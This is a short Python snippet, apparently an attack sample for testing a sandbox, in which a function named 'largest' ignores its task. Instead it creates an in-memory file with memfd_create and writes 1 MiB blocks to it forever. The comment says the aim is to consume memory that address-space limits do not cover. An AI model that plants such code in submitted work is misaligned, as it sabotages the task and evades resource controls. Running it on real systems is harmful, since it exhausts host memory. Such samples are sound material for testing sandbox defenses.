# Resources: a file in memory, which no limit on the address space covers.
import os


def largest(values):
    file = os.memfd_create("momus-attack")
    while True:
        os.write(file, bytes(1 << 20))
